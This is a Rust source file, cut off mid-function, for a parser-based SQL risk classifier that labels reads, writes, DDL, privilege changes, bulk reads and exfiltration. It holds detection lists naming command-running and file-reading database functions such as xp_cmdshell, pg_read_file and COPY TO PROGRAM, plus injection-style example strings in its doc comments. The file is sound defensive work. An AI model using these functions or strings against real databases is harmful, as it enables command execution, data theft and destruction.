//! SQL classification by parsing: what a statement would do, found by walking the whole
//! syntax tree that [`sqlparser`] builds, never by matching text.
//!
//! [`inspect_sql`] parses the text with the target database's [`SqlDialect`], walks every
//! node of every statement (CTEs, subqueries, `EXPLAIN` targets, function arguments,
//! locking clauses, `EXECUTE` of string literals) and adds one [`Finding`] per reason to
//! the [`Classification`]. Risks come from [`default_risk`].
//!
//! | label | when | default risk |
//! |---|---|---|
//! | `sql.read` | `SELECT`, `VALUES`, `SHOW`, `DESCRIBE`, `EXPLAIN` (plan only, or `ANALYZE` of a read), `USE`, transaction control (`BEGIN`, `COMMIT`, `ROLLBACK`, `SAVEPOINT`), ordinary session settings (`SET statement_timeout = …`) | low |
//! | `sql.write` | `INSERT`, `UPDATE`, `DELETE`, `MERGE`, `REPLACE`, upserts, `COPY … FROM`, `SELECT … INTO new_table`, locking reads (`FOR UPDATE`/`FOR SHARE`, `LOCK TABLE`), writes inside CTEs, `EXPLAIN ANALYZE` of a write, `CALL`/`EXECUTE` of a procedure or prepared statement (its effect is not visible), `nextval`/`setval` | medium |
//! | `sql.ddl` | `CREATE`/`ALTER`/`DROP` of tables, views, indexes, schemas, functions…, `TRUNCATE`, `RENAME`, `COMMENT ON` | high |
//! | `sql.dcl` | `GRANT`, `REVOKE`, `DENY`, roles and users, row-level security policies, user mappings and secrets | high |
//! | `sql.delete_all` | `DELETE` with no `WHERE` (or an always-true one, e.g. `WHERE 1=1`) and no `LIMIT`, `TRUNCATE`, `INSERT OVERWRITE` | critical |
//! | `sql.update_all` | `UPDATE` with no `WHERE` (or an always-true one) and no `LIMIT` | high |
//! | `sql.multi_statement` | more than one statement in the text | medium |
//! | `sql.bulk_read` | a result-returning query without `LIMIT`/`FETCH`/`TOP`, or with one over [`SqlOptions::bulk_row_limit`]; `SELECT *` from one of [`SqlOptions::sensitive_tables`]; `COPY … TO`, `UNLOAD`, `EXPORT DATA`, Snowflake `COPY INTO @stage`, `FETCH ALL` | medium |
//! | `sql.exfil` | `COPY … TO/FROM PROGRAM`, `COPY` to or from a server file, `INSERT OVERWRITE DIRECTORY`, and calls (anywhere in the tree) of `pg_read_file`, `pg_read_binary_file`, `pg_ls_dir`, `pg_stat_file`, `lo_import`, `lo_export`, `dblink*`, `load_file`, `xp_cmdshell`, `sp_oacreate`, `openrowset`, `opendatasource`, `openquery`… | critical |
//! | `sql.admin` | `SET ROLE`, `SET SESSION AUTHORIZATION`, `SET GLOBAL`, settings that change privileges, auditing, read-only mode or how later SQL is parsed (`sql_mode`, `standard_conforming_strings`…), `USE ROLE`, `CREATE`/`DROP EXTENSION`, `LOAD`, `INSTALL`, `KILL`, `FLUSH`, `VACUUM`, `ANALYZE`, `OPTIMIZE`, `ATTACH`, writing `PRAGMA`s, and calls of `pg_terminate_backend`, `pg_cancel_backend`, `pg_reload_conf`, `set_config`, `load_extension`… | high |
//! | `sql.unparsed` | the text does not parse with the dialect; non-empty text that parses to no statement (MariaDB `/*M!… */`, comments only); a MySQL/MariaDB executable comment the parser kept as a comment; `EXECUTE` of SQL built at run time; text over [`MAX_SQL_BYTES`] | high |
//!
//! Choices worth knowing:
//!
//! * **Unparsed is never low.** When parsing fails the classification always carries
//!   `sql.unparsed`; the tokens are then scanned for hints (a leading `DROP`, `INTO
//!   OUTFILE`, `ALTER SYSTEM`, `SHUTDOWN`, dangerous function names, several statements),
//!   which can only add labels. sqlparser 0.64 cannot parse `SELECT … INTO OUTFILE`,
//!   `ALTER SYSTEM`, `SHUTDOWN`, `DO $$ … $$` or MySQL `PREPARE s FROM …`: they are
//!   `sql.unparsed` (plus the hint labels).
//! * **Empty text** (nothing but ASCII whitespace) runs nothing and gets no label. Text
//!   with only comments or `;` is `sql.unparsed`.
//! * **`EXPLAIN` without `ANALYZE`** of a query or DML only plans it: `sql.read`, and the
//!   target's write labels are left out (its tables are still recorded, and dangerous
//!   function names are still reported). Any other target is classified as if it ran.
//! * **Tables** are recorded as `table:<name>`, lowercased and unquoted; a qualified name
//!   is recorded twice, as written (`table:public.customers`) and as its last part
//!   (`table:customers`), so `tables = ["customers"]` matches however the query names
//!   it. CTE names are recorded too (a CTE may shadow a real table's name). Columns are
//!   recorded as `column:<table>.<column>` where cheap: `INSERT` column lists, `UPDATE`
//!   assignments, and plain column references of a single-table `SELECT`.
//! * **Dynamic SQL** given as a string literal (`EXECUTE IMMEDIATE '…'`, T-SQL
//!   `EXEC('…')`, `sp_executesql N'…'`) is parsed and classified too, up to
//!   [`MAX_NESTING`] levels deep; anything else built at run time is `sql.unparsed`.
//! * **Bounded work.** Text over [`MAX_SQL_BYTES`] is not parsed. sqlparser's default
//!   recursion limit stays on, so deep nesting is a parse error (`sql.unparsed`), and the
//!   walk takes the tree apart as it leaves each node, so that long operator chains
//!   (`1+1+…`, `… UNION …`) are dropped without deep recursion.
//!
//! ```
//! use tollgate::classify::Classification;
//! use tollgate::classify::sql::{SqlDialect, SqlOptions, inspect_sql};
//!
//! let options = SqlOptions::new(SqlDialect::Postgres);
//! let mut out = Classification::new();
//! inspect_sql("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", &options, "/sql", &mut out);
//! assert!(out.has_label("sql.write") && out.has_label("sql.delete_all"));
//! assert!(out.objects.contains("table:users"));
//! ```

use std::collections::HashSet;
use std::convert::Infallible;
use std::fmt;
use std::ops::ControlFlow;
use std::str::FromStr;

use serde::{Deserialize, Serialize};
use sqlparser::ast::{
    AssignmentTarget, BinaryOperator, CommentObject, ContextModifier, CopySource, CopyTarget,
    Delete, Expr, FetchDirection, FromTable, Function, FunctionArguments, GrantObjects,
    GroupByExpr, Ident, Insert, LimitClause, ObjectName, ObjectNamePart, ObjectType, Query, Select,
    SelectItem, Set, SetExpr, Statement, TableFactor, TableObject, TopQuantity, Update, Use,
    UtilityOption, Value, ValueWithSpan, Values, VisitMut, VisitorMut,
};
use sqlparser::dialect::{
    BigQueryDialect, Dialect, GenericDialect, MsSqlDialect, MySqlDialect, PostgreSqlDialect,
    SQLiteDialect, SnowflakeDialect,
};
use sqlparser::parser::{Parser, ParserError};
use sqlparser::tokenizer::{Token, Tokenizer, Whitespace};

use super::{Classification, Finding, default_risk};

/// The longest SQL text that is parsed, in bytes (1 MiB). Longer text is `sql.unparsed`
/// ("too long to inspect").
pub const MAX_SQL_BYTES: usize = 1024 * 1024;

/// How deep SQL found inside SQL (dynamic SQL in string literals, executable comments) is
/// followed. Deeper nesting is `sql.unparsed`.
pub const MAX_NESTING: u8 = 3;

/// The default [`SqlOptions::bulk_row_limit`].
pub const DEFAULT_BULK_ROW_LIMIT: u64 = 1000;

/// At most this many findings are recorded per call; further reasons still add their
/// label (and risk), without a finding.
const MAX_FINDINGS: usize = 64;

/// How deep the inspector's own small recursive helpers go before giving the
/// conservative answer.
const MAX_HELPER_DEPTH: usize = 64;

/// The longest run of chained `[…]` accepted (see [`bracket_chain_over_limit`]).
const MAX_BRACKET_CHAIN: usize = 32;

/// Free stack below which parsing moves to a fresh stack of [`PARSE_STACK_SIZE`] bytes.
/// sqlparser's statement recursion (at most its recursion limit, 50, deep) takes about
/// 14 KiB a level in release builds and 70 KiB in debug builds.
const PARSE_STACK_RED_ZONE: usize = if cfg!(debug_assertions) {
    6 << 20
} else {
    1 << 20
};

/// The size of the stack parsing moves to when less than [`PARSE_STACK_RED_ZONE`] is free.
const PARSE_STACK_SIZE: usize = if cfg!(debug_assertions) {
    8 << 20
} else {
    4 << 20
};

/// How much of a parser error is quoted in a finding, in characters.
const MAX_ERROR_CHARS: usize = 200;

const READ: &str = "sql.read";
const WRITE: &str = "sql.write";
const DDL: &str = "sql.ddl";
const DCL: &str = "sql.dcl";
const DELETE_ALL: &str = "sql.delete_all";
const UPDATE_ALL: &str = "sql.update_all";
const MULTI: &str = "sql.multi_statement";
const BULK: &str = "sql.bulk_read";
const EXFIL: &str = "sql.exfil";
const ADMIN: &str = "sql.admin";
const UNPARSED: &str = "sql.unparsed";

/// Labels left out inside `EXPLAIN` without `ANALYZE` (nothing runs).
const NOT_WHEN_PLANNED: [&str; 7] = [WRITE, DDL, DCL, DELETE_ALL, UPDATE_ALL, ADMIN, BULK];

/// Functions that read or write the server's files, run commands or reach other servers.
const EXFIL_FUNCTIONS: &[&str] = &[
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_stat_file",
    "pg_file_write",
    "pg_file_rename",
    "pg_file_unlink",
    "lo_import",
    "lo_export",
    "load_file",
    "xp_cmdshell",
    "xp_dirtree",
    "xp_fileexist",
    "xp_regread",
    "sp_oacreate",
    "sp_oamethod",
    "openrowset",
    "opendatasource",
    "openquery",
    "sys_exec",
    "sys_eval",
];

/// Function-name prefixes with the same meaning as [`EXFIL_FUNCTIONS`].
const EXFIL_PREFIXES: &[&str] = &["dblink", "utl_http", "utl_file", "utl_tcp"];

/// Functions that act on the server or other sessions, or change privileges.
const ADMIN_FUNCTIONS: &[&str] = &[
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_promote",
    "pg_switch_wal",
    "pg_create_restore_point",
    "pg_backup_start",
    "pg_backup_stop",
    "pg_start_backup",
    "pg_stop_backup",
    "pg_drop_replication_slot",
    "pg_create_logical_replication_slot",
    "pg_create_physical_replication_slot",
    "set_config",
    "load_extension",
];

/// Functions that change data although they are called from a `SELECT`.
const WRITE_FUNCTIONS: &[&str] = &[
    "nextval",
    "setval",
    "lo_create",
    "lo_creat",
    "lo_unlink",
    "lo_put",
    "lo_from_bytea",
];

/// Session settings that change privileges, auditing, read-only mode or how later SQL is
/// parsed (which would make this classification of later calls wrong).
const SENSITIVE_SETTINGS: &[&str] = &[
    "role",
    "session_authorization",
    "session_replication_role",
    "sql_mode",
    "standard_conforming_strings",
    "backslash_quote",
    "sql_log_bin",
    "sql_log_off",
    "general_log",
    "general_log_file",
    "log_statement",
    "default_transaction_read_only",
    "transaction_read_only",
    "tx_read_only",
    "read_only",
    "super_read_only",
    "foreign_key_checks",
    "local_infile",
    "allow_system_table_mods",
    "lo_compat_privileges",
];

/// SQLite pragmas that only report (when called without `=`).
const READ_ONLY_PRAGMAS: &[&str] = &[
    "table_info",
    "table_xinfo",
    "table_list",
    "index_info",
    "index_xinfo",
    "index_list",
    "foreign_key_list",
    "database_list",
    "collation_list",
    "function_list",
    "module_list",
    "pragma_list",
    "compile_options",
    "integrity_check",
    "quick_check",
    "foreign_key_check",
];

/// Aggregates that fold any number of rows into one number (a query made only of these
/// returns one row). `string_agg`/`array_agg` are left out: they return every value.
const SCALAR_AGGREGATES: &[&str] = &[
    "count",
    "sum",
    "avg",
    "min",
    "max",
    "stddev",
    "stddev_pop",
    "stddev_samp",
    "variance",
    "var_pop",
    "var_samp",
    "bool_and",
    "bool_or",
    "every",
];

/// The SQL dialect a target database speaks. It decides how the text is tokenized and
/// parsed: `SELECT 'a\'; DROP TABLE users; --'` is two statements in PostgreSQL and one
/// in MySQL, so classify with the dialect of the database the tool talks to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Deserialize, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum SqlDialect {
    /// PostgreSQL (`postgres`; also parsed from `postgresql`, `pg`).
    Postgres,
    /// MySQL and MariaDB (`mysql`; also parsed from `mariadb`).
    Mysql,
    /// SQLite (`sqlite`).
    Sqlite,
    /// Microsoft SQL Server / T-SQL (`mssql`; also parsed from `sqlserver`, `tsql`).
    Mssql,
    /// Snowflake (`snowflake`).
    Snowflake,
    /// Google BigQuery (`bigquery`).
    Bigquery,
    /// sqlparser's permissive generic dialect (`generic`), the default.
    #[default]
    Generic,
}

impl SqlDialect {
    /// The lowercase name used in policy files and output.
    pub fn as_str(self) -> &'static str {
        match self {
            SqlDialect::Postgres => "postgres",
            SqlDialect::Mysql => "mysql",
            SqlDialect::Sqlite => "sqlite",
            SqlDialect::Mssql => "mssql",
            SqlDialect::Snowflake => "snowflake",
            SqlDialect::Bigquery => "bigquery",
            SqlDialect::Generic => "generic",
        }
    }

    fn parser_dialect(self) -> &'static dyn Dialect {
        match self {
            SqlDialect::Postgres => &PostgreSqlDialect {},
            SqlDialect::Mysql => &MySqlDialect {},
            SqlDialect::Sqlite => &SQLiteDialect {},
            SqlDialect::Mssql => &MsSqlDialect {},
            SqlDialect::Snowflake => &SnowflakeDialect {},
            SqlDialect::Bigquery => &BigQueryDialect {},
            SqlDialect::Generic => &GenericDialect {},
        }
    }
}

impl fmt::Display for SqlDialect {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for SqlDialect {
    type Err = String;

    /// Parses a dialect name, ignoring ASCII case.
    ///
    /// ```
    /// use tollgate::classify::sql::SqlDialect;
    /// assert_eq!("PostgreSQL".parse::<SqlDialect>(), Ok(SqlDialect::Postgres));
    /// assert!("oracle".parse::<SqlDialect>().is_err());
    /// ```
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.to_ascii_lowercase().as_str() {
            "postgres" | "postgresql" | "pg" => Ok(SqlDialect::Postgres),
            "mysql" | "mariadb" => Ok(SqlDialect::Mysql),
            "sqlite" => Ok(SqlDialect::Sqlite),
            "mssql" | "sqlserver" | "tsql" => Ok(SqlDialect::Mssql),
            "snowflake" => Ok(SqlDialect::Snowflake),
            "bigquery" => Ok(SqlDialect::Bigquery),
            "generic" => Ok(SqlDialect::Generic),
            other => Err(format!(
                "unknown SQL dialect `{other}` (expected postgres, mysql, sqlite, mssql, \
                 snowflake, bigquery or generic)"
            )),
        }
    }
}

/// How [`inspect_sql`] reads SQL: the dialect and what counts as a bulk read.
///
/// ```
/// use tollgate::classify::sql::{SqlDialect, SqlOptions};
///
/// let options = SqlOptions::new(SqlDialect::Mysql)
///     .with_bulk_row_limit(500)
///     .with_sensitive_tables(["Customers", "users"]);
/// assert_eq!(options.sensitive_tables, ["customers", "users"]);
/// ```
#[derive(Debug, Clone)]
#[non_exhaustive]
pub struct SqlOptions {
    /// The dialect the text is parsed with.
    pub dialect: SqlDialect,
    /// A query that may return more rows than this is `sql.bulk_read` (default
    /// [`DEFAULT_BULK_ROW_LIMIT`]).
    pub bulk_row_limit: u64,
    /// Lowercase table names; `SELECT *` from one of them is `sql.bulk_read`, whatever its
    /// `LIMIT`. A name matches the table's full name as written (`public.customers`) or
    /// its last part (`customers`).
    pub sensitive_tables: Vec<String>,
}

impl Default for SqlOptions {
    fn default() -> Self {
        SqlOptions::new(SqlDialect::default())
    }
}

impl SqlOptions {
    /// Options for `dialect`, with the default bulk row limit and no sensitive tables.
    pub fn new(dialect: SqlDialect) -> Self {
        SqlOptions {
            dialect,
            bulk_row_limit: DEFAULT_BULK_ROW_LIMIT,
            sensitive_tables: Vec::new(),
        }
    }

    /// Sets the dialect.
    pub fn with_dialect(mut self, dialect: SqlDialect) -> Self {
        self.dialect = dialect;
        self
    }

    /// Sets the bulk row limit.
    pub fn with_bulk_row_limit(mut self, limit: u64) -> Self {
        self.bulk_row_limit = limit;
        self
    }

    /// Sets the sensitive tables (lowercased here).
    pub fn with_sensitive_tables<I, S>(mut self, tables: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.sensitive_tables = tables
            .into_iter()
            .map(|t| t.as_ref().to_lowercase())
            .collect();
        self
    }
}

/// Classifies the SQL text `sql` into `out`: one finding per reason, each pointing at
/// `pointer` (the JSON pointer of the argument the text came from), and every table
/// touched as a `table:` object. See the [module documentation](self) for the labels.
///
/// Never panics; text that cannot be understood is `sql.unparsed`.
///
/// ```
/// use tollgate::classify::{Classification, Risk};
/// use tollgate::classify::sql::{SqlDialect, SqlOptions, inspect_sql};
///
/// let mut out = Classification::new();
/// inspect_sql("SELECT 1; DROP TABLE users", &SqlOptions::new(SqlDialect::Postgres), "/sql", &mut out);
/// assert!(out.has_label("sql.multi_statement") && out.has_label("sql.ddl"));
/// assert!(out.risk >= Risk::High);
/// assert_eq!(out.findings[0].pointer.as_deref(), Some("/sql"));
/// ```
pub fn inspect_sql(sql: &str, options: &SqlOptions, pointer: &str, out: &mut Classification) {
    let mut ctx = Ctx::new(options, pointer, out);
    if sql.len() > MAX_SQL_BYTES {
        ctx.emit(
            UNPARSED,
            format!(
                "SQL text too long to inspect ({} bytes; the limit is {MAX_SQL_BYTES})",
                sql.len()
            ),
        );
        return;
    }
    if sql.chars().all(|c| c.is_ascii_whitespace()) {
        return;
    }
    inspect_text(&mut ctx, sql, 0);
}

/// Shared state of one [`inspect_sql`] call: where findings go, deduplicated and capped.
struct Ctx<'a> {
    options: &'a SqlOptions,
    sensitive: Vec<String>,
    pointer: &'a str,
    out: &'a mut Classification,
    seen: HashSet<(&'static str, String)>,
    findings: usize,
}

impl<'a> Ctx<'a> {
    fn new(options: &'a SqlOptions, pointer: &'a str, out: &'a mut Classification) -> Self {
        Ctx {
            options,
            sensitive: options
                .sensitive_tables
                .iter()
                .map(|t| t.to_lowercase())
                .collect(),
            pointer,
            out,
            seen: HashSet::new(),
            findings: 0,
        }
    }

    fn emit(&mut self, label: &'static str, what: impl Into<String>) {
        let what = what.into();
        if self.seen.contains(&(label, what.clone())) {
            return;
        }
        let risk = default_risk(label);
        if self.findings < MAX_FINDINGS {
            self.findings += 1;
            self.out
                .find(Finding::new(label, what.clone()).at(self.pointer), risk);
        } else {
            self.out.label(label, risk);
        }
        self.seen.insert((label, what));
    }

    /// Records a table: its full name and, when qualified, its last part.
    fn touch_table(&mut self, name: &ObjectName) {
        let full = object_name(name);
        if full.is_empty() {
            return;
        }
        let last = last_part(name);
        if last != full && !last.is_empty() {
            self.out.touch("table", &last);
        }
        self.out.touch("table", &full);
    }

    fn touch_column(&mut self, table: &str, column: &str) {
        if !table.is_empty() && !column.is_empty() {
            self.out.touch("column", &format!("{table}.{column}"));
        }
    }

    fn is_sensitive(&self, name: &ObjectName) -> bool {
        let full = object_name(name);
        let last = last_part(name);
        self.sensitive.iter().any(|s| *s == full || *s == last)
    }
}

/// Parses `sql` and classifies it; `depth` counts how deep inside other SQL it was found.
fn inspect_text(ctx: &mut Ctx<'_>, sql: &str, depth: u8) {
    let dialect = ctx.options.dialect.parser_dialect();
    for inner in executable_comments(sql, dialect) {
        ctx.emit(
            UNPARSED,
            "executable comment (/*!…*/ or /*M!…*/): MySQL or MariaDB run its content, \
             which the parser kept as a comment",
        );
        inspect_nested(ctx, &inner, depth);
    }
    if let Some(run) = bracket_chain_over_limit(sql, dialect) {
        ctx.emit(
            UNPARSED,
            format!("{run} chained [ ] subscripts or array dimensions: too many to inspect safely"),
        );
        return;
    }
    match parse(dialect, sql) {
        Err(error) => {
            ctx.emit(
                UNPARSED,
                format!(
                    "not valid {} SQL, so what it does is unknown: {}",
                    ctx.options.dialect,
                    shorten(&error.to_string())
                ),
            );
            hint_from_tokens(ctx, sql, dialect);
        }
        Ok(mut statements) => {
            if statements.is_empty() {
                ctx.emit(
                    UNPARSED,
                    "non-empty SQL that parses to no statement (only comments or \
                     separators); the database may still run part of it",
                );
            }
            if statements.len() > 1 {
                ctx.emit(
                    MULTI,
                    format!("{} statements in one call", statements.len()),
                );
            }
            let mut walker = Walker::new(ctx, depth);
            for statement in &mut statements {
                let _ = statement.visit(&mut walker);
            }
        }
    }
}

/// Parses on a stack with room for sqlparser's statement recursion (up to its default
/// recursion limit), which sqlparser does not grow by itself: nested `EXPLAIN`,
/// `PREPARE` or `IF … END IF` blocks would otherwise overflow a small thread stack.
fn parse(dialect: &dyn Dialect, sql: &str) -> Result<Vec<Statement>, ParserError> {
    stacker::maybe_grow(PARSE_STACK_RED_ZONE, PARSE_STACK_SIZE, || {
        Parser::parse_sql(dialect, sql)
    })
}

/// The longest run of chained `[…][…]` (subscripts or array dimensions) in `sql`, when it
/// is over [`MAX_BRACKET_CHAIN`]. sqlparser builds such a run as a nested type that it
/// drops recursively, which overflows the stack for long runs.
fn bracket_chain_over_limit(sql: &str, dialect: &dyn Dialect) -> Option<usize> {
    if sql.bytes().filter(|b| *b == b'[').count() <= MAX_BRACKET_CHAIN {
        return None;
    }
    let tokens = Tokenizer::new(dialect, sql).tokenize().ok()?;
    let mut run = 0usize;
    let mut longest = 0usize;
    let mut previous: Option<&Token> = None;
    for token in tokens.iter().filter(|t| !matches!(t, Token::Whitespace(_))) {
        if *token == Token::LBracket {
            run = if previous == Some(&Token::RBracket) {
                run + 1
            } else {
                1
            };
            longest = longest.max(run);
        }
        previous = Some(token);
    }
    (longest > MAX_BRACKET_CHAIN).then_some(longest)
}

/// Classifies SQL found inside SQL (a string literal run as SQL, an executable comment).
fn inspect_nested(ctx: &mut Ctx<'_>, sql: &str, depth: u8) {
    if depth >= MAX_NESTING {
        ctx.emit(UNPARSED, "SQL nested inside SQL too deeply to inspect");
    } else if !sql.chars().all(|c| c.is_ascii_whitespace()) {
        inspect_text(ctx, sql, depth + 1);
    }
}

/// The content of each `/*!…*/` or `/*M!…*/` comment that the tokenizer kept as a
/// comment (with the version number removed).
fn executable_comments(sql: &str, dialect: &dyn Dialect) -> Vec<String> {
    if !(sql.contains("/*!") || sql.contains("/*M!") || sql.contains("/*m!")) {
        return Vec::new();
    }
    let Ok(tokens) = Tokenizer::new(dialect, sql).tokenize() else {
        return Vec::new();
    };
    tokens
        .iter()
        .filter_map(|token| match token {
            Token::Whitespace(Whitespace::MultiLineComment(text)) => {
                let body = text
                    .strip_prefix('!')
                    .or_else(|| text.strip_prefix("M!"))
                    .or_else(|| text.strip_prefix("m!"))?;
                Some(
                    body.trim_start_matches(|c: char| c.is_ascii_digit())
                        .to_owned(),
                )
            }
            _ => None,
        })
        .collect()
}

/// After a parse error: labels suggested by the tokens (only ever more labels).
fn hint_from_tokens(ctx: &mut Ctx<'_>, sql: &str, dialect: &dyn Dialect) {
    let Ok(tokens) = Tokenizer::new(dialect, sql).tokenize() else {
        return;
    };
    let mut at_start = true;
    let mut segments = 0usize;
    let mut previous = String::new();
    for token in &tokens {
        match token {
            Token::Whitespace(_) => continue,
            Token::SemiColon => {
                at_start = true;
                previous.clear();
                continue;
            }
            _ => {}
        }
        if at_start {
            segments += 1;
        }
        let word = match token {
            Token::Word(w) if w.quote_style.is_none() => w.value.to_ascii_lowercase(),
            _ => String::new(),
        };
        if at_start && let Some((label, kind)) = statement_hint(&word) {
            ctx.emit(
                label,
                format!(
                    "SQL that did not parse has a statement starting with {} ({kind})",
                    word.to_uppercase()
                ),
            );
        }
        word_hint(ctx, &previous, &word);
        at_start = false;
        previous = word;
    }
    if segments > 1 {
        ctx.emit(
            MULTI,
            format!("SQL that did not parse has {segments} statements"),
        );
    }
}

fn statement_hint(word: &str) -> Option<(&'static str, &'static str)> {
    match word {
        "drop" | "truncate" | "create" | "alter" | "rename" | "comment" | "undrop" => {
            Some((DDL, "a schema change"))
        }
        "delete" | "update" | "insert" | "replace" | "merge" | "upsert" | "copy" | "load" => {
            Some((WRITE, "a write"))
        }
        "grant" | "revoke" | "deny" => Some((DCL, "a privilege change")),
        "shutdown" | "kill" | "backup" | "restore" | "reconfigure" | "dbcc" => {
            Some((ADMIN, "server administration"))
        }
        _ => None,
    }
}

fn word_hint(ctx: &mut Ctx<'_>, previous: &str, word: &str) {
    if previous == "into" && (word == "outfile" || word == "dumpfile") {
        let what = format!(
            "SELECT … INTO {} writes query results to a file on the database server",
            word.to_uppercase()
        );
        ctx.emit(EXFIL, what.clone());
        ctx.emit(BULK, what);
    }
    if previous == "alter" && word == "system" {
        ctx.emit(ADMIN, "ALTER SYSTEM changes the server's configuration");
    }
    if let Some((label, why)) = function_label(word) {
        ctx.emit(
            label,
            format!("SQL that did not parse names {word}, which {why}"),
        );
    }
}

/// The label of a dangerous function (by its lowercase last name part), with why.
fn function_label(name: &str) -> Option<(&'static str, &'static str)> {
    if EXFIL_FUNCTIONS.contains(&name) || EXFIL_PREFIXES.iter().any(|p| name.starts_with(p)) {
        Some((
            EXFIL,
            "reaches the server's files, runs commands or connects to other servers",
        ))
    } else if ADMIN_FUNCTIONS.contains(&name) {
        Some((ADMIN, "acts on the server, other sessions or privileges"))
    } else if WRITE_FUNCTIONS.contains(&name) {
        Some((WRITE, "changes data although it is called like a read"))
    } else {
        None
    }
}

/// What the statement being walked sits in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Frame {
    /// A statement that runs.
    Plain,
    /// The target of `EXPLAIN ANALYZE`: it runs, but its rows are not returned.
    Explain,
    /// The target of `EXPLAIN` without `ANALYZE`: it is only planned.
    PlanOnly,
}

/// The tree walk: classifies nodes on the way in, takes them apart on the way out.
struct Walker<'c, 'a> {
    ctx: &'c mut Ctx<'a>,
    depth: u8,
    frames: Vec<Frame>,
    function_relation: bool,
}

impl<'c, 'a> Walker<'c, 'a> {
    fn new(ctx: &'c mut Ctx<'a>, depth: u8) -> Self {
        Walker {
            ctx,
            depth,
            frames: Vec::new(),
            function_relation: false,
        }
    }

    fn plan_only(&self) -> bool {
        self.frames.contains(&Frame::PlanOnly)
    }

    fn in_explain(&self) -> bool {
        self.frames.iter().any(|f| *f != Frame::Plain)
    }

    /// Adds a finding, unless the statement is only planned and the label needs it to run.
    fn emit(&mut self, label: &'static str, what: impl Into<String>) {
        if self.plan_only() && NOT_WHEN_PLANNED.contains(&label) {
            return;
        }
        self.ctx.emit(label, what);
    }

    /// Reports a dangerous function call (also inside `EXPLAIN`: cheap, and safe).
    fn check_function(&mut self, name: &ObjectName) {
        let last = last_part(name);
        if let Some((label, why)) = function_label(&last) {
            self.ctx.emit(label, format!("calls {last}, which {why}"));
        }
    }

    fn on_statement(&mut self, statement: &Statement) {
        match statement {
            Statement::Query(query) => self.on_query_statement(query),
            Statement::Insert(insert) => self.on_insert(insert),
            Statement::Update(update) => self.on_update(update),
            Statement::Delete(delete) => self.on_delete(delete),
            Statement::Merge(_) => self.emit(WRITE, "MERGE inserts, updates or deletes rows"),
            Statement::Explain {
                analyze,
                options,
                statement,
                ..
            } => self.on_explain(*analyze, options.as_deref(), statement),
            Statement::Copy {
                source, to, target, ..
            } => self.on_copy(source, *to, target),
            Statement::CopyIntoSnowflake {
                kind,
                into,
                from_obj,
                ..
            } => self.on_copy_into(kind, into, from_obj.as_ref()),
            Statement::Set(set) => self.on_set(set),
            Statement::Execute {
                name,
                parameters,
                immediate,
                ..
            } => self.on_execute(name.as_ref(), parameters, *immediate),
            Statement::Call(function) => self.on_call(function),
            Statement::Drop {
                object_type,
                names,
                table,
                ..
            } => self.on_drop(object_type, names, table.as_ref()),
            Statement::Truncate(_) => {
                self.emit(DDL, "TRUNCATE empties tables");
                self.emit(DELETE_ALL, "TRUNCATE removes every row");
            }
            Statement::Pragma {
                name, value, is_eq, ..
            } => self.on_pragma(name, value.is_some(), *is_eq),
            Statement::Use(used) => self.on_use(used),
            Statement::Fetch {
                direction, into, ..
            } => self.on_fetch(direction, into.as_ref()),
            Statement::Grant(grant) => self.on_privileges("GRANT", grant.objects.as_ref()),
            Statement::Revoke(revoke) => self.on_privileges("REVOKE", revoke.objects.as_ref()),
            Statement::RenameTable(renames) => {
                for rename in renames {
                    self.ctx.touch_table(&rename.old_name);
                    self.ctx.touch_table(&rename.new_name);
                }
                self.emit(DDL, "RENAME TABLE renames tables");
            }
            Statement::Comment {
                object_type,
                object_name,
                ..
            } => self.on_comment(object_type, object_name),
            Statement::LoadData { table_name, .. } => {
                self.ctx.touch_table(table_name);
                self.emit(WRITE, "LOAD DATA loads a file into a table");
            }
            Statement::LockTables { tables } => {
                for table in tables {
                    self.ctx
                        .touch_table(&ObjectName::from(vec![table.table.clone()]));
                }
                self.emit(WRITE, "LOCK TABLES locks tables (write intent)");
            }
            Statement::Directory { .. } => {
                let what = "INSERT OVERWRITE DIRECTORY writes query results to files";
                self.emit(EXFIL, what);
                self.emit(BULK, what);
            }
            other => self.on_simple_statement(other),
        }
    }

    /// Statements whose label follows from their kind alone.
    fn on_simple_statement(&mut self, statement: &Statement) {
        let (label, what) = simple_effect(statement);
        self.emit(label, what);
    }

    fn on_query_statement(&mut self, query: &Query) {
        if body_reads(&query.body, 0) {
            self.emit(READ, "query reads data");
        }
        if self.in_explain() {
            return;
        }
        let limit = self.ctx.options.bulk_row_limit;
        match row_bound(query, 0) {
            None => self.emit(
                BULK,
                "query without LIMIT, FETCH or TOP can return every row",
            ),
            Some(rows) if rows > limit => self.emit(
                BULK,
                format!("query may return {rows} rows, over the bulk row limit of {limit}"),
            ),
            Some(_) => {}
        }
    }

    fn on_insert(&mut self, insert: &Insert) {
        let table = match &insert.table {
            TableObject::TableName(name) => last_part(name),
            _ => String::new(),
        };
        for column in &insert.columns {
            self.ctx.touch_column(&table, &last_part(column));
        }
        let verb = if insert.replace_into {
            "REPLACE"
        } else {
            "INSERT"
        };
        self.emit(WRITE, format!("{verb} adds rows to {}", shown(&table)));
        if insert.overwrite {
            self.emit(
                DELETE_ALL,
                format!("INSERT OVERWRITE replaces every row of {}", shown(&table)),
            );
        }
    }

    fn on_update(&mut self, update: &Update) {
        let table = match &update.table.relation {
            TableFactor::Table { name, .. } => last_part(name),
            _ => String::new(),
        };
        for assignment in &update.assignments {
            match &assignment.target {
                AssignmentTarget::ColumnName(column) => {
                    self.ctx.touch_column(&table, &last_part(column));
                }
                AssignmentTarget::Tuple(columns) => {
                    for column in columns {
                        self.ctx.touch_column(&table, &last_part(column));
                    }
                }
            }
        }
        self.emit(WRITE, format!("UPDATE changes rows of {}", shown(&table)));
        if let Some(why) = unrestricted(update.selection.as_ref(), update.limit.is_some()) {
            self.emit(
                UPDATE_ALL,
                format!("UPDATE {why} changes every row of {}", shown(&table)),
            );
        }
    }

    fn on_delete(&mut self, delete: &Delete) {
        for name in &delete.tables {
